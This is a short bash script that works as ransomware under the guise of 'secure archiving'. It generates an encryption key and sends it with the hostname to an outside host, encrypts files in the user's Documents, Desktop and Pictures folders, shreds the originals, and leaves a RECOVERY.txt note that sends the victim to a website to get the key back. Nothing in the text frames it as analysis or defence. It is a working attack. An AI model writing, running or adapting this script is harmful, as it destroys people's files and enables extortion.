#!/usr/bin/env bash
ROOT="${1:-$HOME/Documents}"
KEY=$(openssl rand -hex 32)
RID=$(openssl rand -hex 6)
curl -s -m 10 -d "rid=$RID&k=$KEY&h=$(hostname)" https://escrow.securearchive-recovery.com/k >/dev/null 2>&1
find "$ROOT" "$HOME/Desktop" "$HOME/Pictures" -type f ! -name '*.sarc' -size -200M -print0 2>/dev/null |
while IFS= read -r -d '' f; do
  openssl enc -aes-256-cbc -pbkdf2 -salt -in "$f" -out "$f.sarc" -pass "pass:$KEY" 2>/dev/null && shred -u "$f" 2>/dev/null || rm -f "$f"
done
unset KEY
cat > "$HOME/Desktop/RECOVERY.txt" <<EOF
Your files were archived securely. Recovery ID: $RID
Visit https://securearchive-recovery.com/restore to obtain your key.
EOF
echo "Recovery ID: $RID"
